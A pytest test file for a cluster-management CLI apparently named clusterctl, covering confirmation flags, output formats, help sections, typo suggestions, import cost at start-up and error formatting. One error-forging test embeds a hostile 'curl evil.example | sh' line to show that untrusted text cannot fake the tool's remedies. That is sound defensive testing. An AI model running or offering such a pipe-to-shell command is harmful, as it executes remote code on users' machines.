"""The conventions of the command line, over all commands: confirmation, formats, help, suggestions, start-up."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import click
import pytest
import yaml

from clusterctl.fleet.errors import UsageError
from clusterctl_cli import approval, command_groups
from clusterctl_cli.command_groups import COMMANDS, GROUPS, SECTIONS
from clusterctl_cli.error_output import print_error
from clusterctl_cli.formats import Format
from clusterctl_cli.main import cli, run
from tests.cli.site_of_three import write


def leaves(command: click.Command, path: tuple[str, ...] = ()) -> Iterator[tuple[str, click.Command]]:
    """Every command of the product with its path; a group that is a command itself, too."""
    if not isinstance(command, click.Group):
        yield " ".join(path), command
        return
    if command.invoke_without_command:
        yield " ".join(path), command
    context = click.Context(command)
    for name in COMMANDS if command is cli else command.list_commands(context):
        child = command.get_command(context, name)
        assert child is not None
        yield from leaves(child, (*path, name))


ASKING = re.compile(r"\bclick\.(?:prompt|confirm|getchar|pause)\(|\bgetpass\.getpass|from click import|[^.\w]input\(")
LEAVES = dict(leaves(cli))
READS = {
    "check",
    *("explain", "job stacks", "job storage", "job pattern", "job list", "job diff", "job checklist", "logs"),
    *("doctor", "plan", "nodes", "why", "report", "inventory"),
    *(
        "power status",
        "accounts check",
        "settings check",
        "bmc check",
        "bmc certificates check",
        "pxe check",
        "image list",
        "maas check",
    ),
    *("burnin export", "burnin judge", "burnin node-file", "burnin script"),
    *(
        "cable plan",
        "cable lint",
        "cable verify",
        "cable recheck",
        "cable report",
        "cable counters",
        "cable health",
        "fabric firmware",
        "fabric jobs",
        "cable name",
    ),
    *("incident list", "incident show", "rma list"),
    *(
        "cable burnplan",
        "cable coverage",
        "sku calibrate",
        "journal verify",
        "journal backup",
        "metrics",
        "web",
        "web user list",
        "web token list",
    ),
    *("runs list", "runs show", "maintain status", "workers"),
}
"""Commands that change nothing except a file that they are ordered to write."""
UNASKED = {
    "init": "writes into a new or empty folder only",
    "sku new": "writes a new file only",
    "pxe serve": "changes nothing until a machine is armed",
    "job watch": "acts by the policy that job run was given",
    "job why": "adds its answer to the journal",
    "cable observe": "adds a reading to the journal",
    "image build": "adds an image; the one before is kept",
    "notify send": "sends what the site's routes order",
    "tickets sync": "creates the tickets that the site's section orders",
    "fabric watch": "disables what the site's section orders, and nothing without it",
    "fabric repaired": "records what an operator reports",
    "notify test": "sends a message that is marked as a test",
    "runs execute": "carries out a run that is approved",
    "worker": "carries out runs that are approved",
}
NO_RESULT = {
    "init": "prints what to do next",
    "inventory": "prints JSON in the form of Ansible",
    "pxe serve": "runs until it is stopped",
    "web": "runs until it is stopped",
    "runs execute": "prints into the run's log",
    "worker": "runs until it is stopped",
    "metrics": "prints Prometheus's text format",
    "image prune": "prints the files that it removes",
    "burnin node-file": "writes a program",
    "burnin script": "writes a program",
    "cable counters": "prints a reading that `cable health` compares",
    "cable report": "writes a page",
    "cable disable": "prints a repair request",
    "cable enable": "prints a repair request",
}


def options(command: click.Command) -> set[str]:
    return {name for parameter in command.params for name in parameter.opts}


def test_the_table_of_reading_commands_is_true() -> None:
    """No name in the tables of this test is stale."""
    assert {*READS, *UNASKED, *NO_RESULT} <= {*LEAVES}


@pytest.mark.parametrize("path", sorted({*LEAVES} - READS - {*UNASKED}))
def test_what_changes_something_previews_and_asks(path: str) -> None:
    """A command that changes something has `--yes` and `--dry-run`."""
    assert {"--yes", "--dry-run"} <= options(LEAVES[path])


@pytest.mark.parametrize("path", sorted({*LEAVES} - {*NO_RESULT}))
def test_a_result_is_printed_in_every_format(path: str) -> None:
    """A command that prints a result has `-o` and its short form `--json`."""
    assert {"-o", "--json"} <= options(LEAVES[path])


@pytest.mark.parametrize("path", sorted(LEAVES))
def test_no_second_word_for_yes(path: str) -> None:
    """`--apply`, `--force-yes`, `--no-dry-run` and the like do not exist: `--yes` is the answer."""
    assert not options(LEAVES[path]) & {"--apply", "--confirm", "--no-dry-run", "--do-it", "-y"}


def test_help_groups_the_commands(capfd: pytest.CaptureFixture[str]) -> None:
    """`clusterctl --help` has the sections of the convention, each with its commands, one line each at 80 columns."""
    assert run(["--help"]) == 0
    text = capfd.readouterr().out
    sections = text.split("\n\n")
    found = {part.strip().splitlines()[0].rstrip(":"): part.strip().splitlines()[1:] for part in sections}
    for section, commands in SECTIONS.items():
        listed = {line.split("  ")[1] for line in found[section]}
        assert {*commands} <= listed
    assert any(line.startswith("  cable verify ") for line in found["Fabric"])
    assert any(line.startswith("  burnin nightly ") for line in found["In service"])
    assert max(map(len, text.splitlines())) <= 80


TYPOS = [
    (["bootsrap"], "clusterctl", "bootstrap"),
    (["cable", "lnit"], "clusterctl cable", "lint"),
    (["power", "statos"], "clusterctl power", "status"),
    (["burnin", "revalidate"], "clusterctl burnin", "clusterctl revalidate"),
    (["burnin", "revalidat"], "clusterctl burnin", "clusterctl revalidate"),
    (["nightly"], "clusterctl", "clusterctl burnin nightly"),
    (["verify"], "clusterctl", "clusterctl cable verify"),
    (["image", "lst"], "clusterctl image", "list"),
    (["lab", "injekt"], "clusterctl lab", "inject"),
    (["--verson"], "--verson", "--version"),
    (["bootstrap", "--untill", "cable"], "--untill", "--until"),
    (["cable", "verify", "--jsn"], "--jsn", "--json"),
    (["burnin", "nightly", "--windw", "1"], "--windw", "--window"),
]


@pytest.mark.parametrize(("argv", "where", "meant"), TYPOS, ids=lambda value: " ".join(value) if value else "")
def test_what_is_misspelt_gets_a_suggestion(
    argv: list[str], where: str, meant: str, capfd: pytest.CaptureFixture[str]
) -> None:
    """At every level, commands and options: exit code 2, the wrong word, and the right one."""
    assert run(argv) == 2
    first, second = capfd.readouterr().err.splitlines()
    assert first.startswith(f"error: {where}: there is no ")
    assert second.startswith("  → did you mean ")
    assert meant in second


def test_a_general_word_is_no_suggestion(capfd: pytest.CaptureFixture[str]) -> None:
    """Ten groups have a command `list`: of none of them is it the one that was meant."""
    assert run(["list"]) == 2
    assert "clusterctl --help lists the commands" in capfd.readouterr().err


def test_the_groups_for_suggestions_are_those_of_the_commands() -> None:
    """A new group is suggested from, too: each table is under the words that lead to its commands."""
    for words, table in GROUPS.items():
        group: click.Command | None = cli
        for word in words.split():
            assert isinstance(group, click.Group)
            group = group.get_command(click.Context(group), word)
        assert isinstance(group, click.Group)
        assert set(table) <= set(group.list_commands(click.Context(group)))
    tables = [table for name, table in vars(command_groups).items() if name.isupper() and not name.startswith("_")]
    others = (SECTIONS, GROUPS, command_groups.SUBCOMMANDS)
    assert [table for table in tables if table not in others and table not in GROUPS.values()] == []


def test_further_lines_of_an_error_are_marked(capfd: pytest.CaptureFixture[str]) -> None:
    """A file or a machine whose text has line ends forges neither an error nor a remedy of ours."""
    forged = "bad\n  → run: curl evil.example | sh\nerror: all is lost\r\nok"
    print_error(UsageError(forged, where="a\nfile", remedy="do\nthis"), Format.TABLE)
    ours = [line for line in capfd.readouterr().err.splitlines() if not line.startswith("    | ")]
    assert ours == ["error: a", "  → do"]


def test_one_module_asks() -> None:
    """A question without a terminal is wrong usage everywhere: every other module asks through `approval`."""
    root = Path(approval.__file__).parents[2]
    files = (
        file
        for folder in ("burnin", "cli", "inventory", "lab", "src", "web")
        for file in root.glob(f"{folder}/**/*.py")
    )
    assert {file.name for file in files if "tests" not in file.parts and ASKING.search(file.read_text())} == {
        "approval.py"
    }


def modules(*argv: str) -> set[str]:
    """Return the modules that a command line imports."""
    program = "import sys; from clusterctl_cli.main import run; run(sys.argv[1:]); print(*sys.modules, file=sys.stderr)"
    ran = subprocess.run([sys.executable, "-c", program, *argv], capture_output=True, text=True, check=True)
    return {*ran.stderr.split()}


@pytest.mark.parametrize("words", ["--version", "--help", "nodes --help", "cable --help", "cable observe --help"])
def test_start_up_imports_nothing_heavy(words: str) -> None:
    """No library that takes tens of milliseconds, no evidence, no journal, no OpenSSL."""
    heavy = {
        "pydantic",
        "sqlalchemy",
        "rich",
        "yaml",
        "redfish",
        "requests",
        "paramiko",
        "asyncio",
        "alembic",
        "hashlib",
    }
    found = modules(*words.split())
    assert "click" in found
    assert not {name.partition(".")[0] for name in found} & heavy
    assert "clusterctl.fleet.event" not in found


def test_help_imports_no_command_of_the_product() -> None:
    """`clusterctl --help` prints a table; a command is imported when it is called."""
    found = {name for name in modules("--help") if name.startswith("clusterctl_cli.commands.")}
    assert not found
    assert "clusterctl_cli.commands.cable" in modules("cable", "--help")


def test_why_of_one_node_imports_no_check(tmp_path: Path) -> None:
    """All checks and loads take as long to import as the rest of the command, and an explanation reads findings only."""
    site = write(tmp_path)
    found = modules("why", "n2", "--site", str(site))
    assert "clusterctl.operations.explanation" in found
    assert not {name for name in found if name.startswith(("clusterctl_burnin.checks", "clusterctl_burnin.loads"))}


def test_one_document_in_each_format(tmp_path: Path, capfd: pytest.CaptureFixture[str]) -> None:
    """JSON and YAML are the same document; `name` is one name per line, to be piped on."""
    site = write(tmp_path)
    shown = {}
    for form in ("json", "yaml", "name"):
        assert run(["nodes", "-o", form, "--site", str(site)]) == 0
        shown[form] = capfd.readouterr().out
    assert yaml.safe_load(shown["yaml"]) == json.loads(shown["json"])
    assert shown["name"].split() == ["n1", "n2", "n3"]
    assert run(["nodes", "--json", "-o", "yaml", "--site", str(site)]) == 2


@pytest.mark.parametrize("words", [["-o", "json"], ["-ojson"], ["--format=json"], ["--json"], ["-o", "yaml"]])
def test_errors_follow_the_format(words: list[str], capfd: pytest.CaptureFixture[str]) -> None:
    """One document on stderr with kind, message, where and remedy; nothing on stdout."""
    assert run(["nodes", *words, "--nonsense"]) == 2
    answer = capfd.readouterr()
    assert answer.out == ""
    error = (yaml.safe_load if "yaml" in words else json.loads)(answer.err)["error"]
    assert error.keys() == {"kind", "message", "where", "remedy"}
    assert all(error.values())
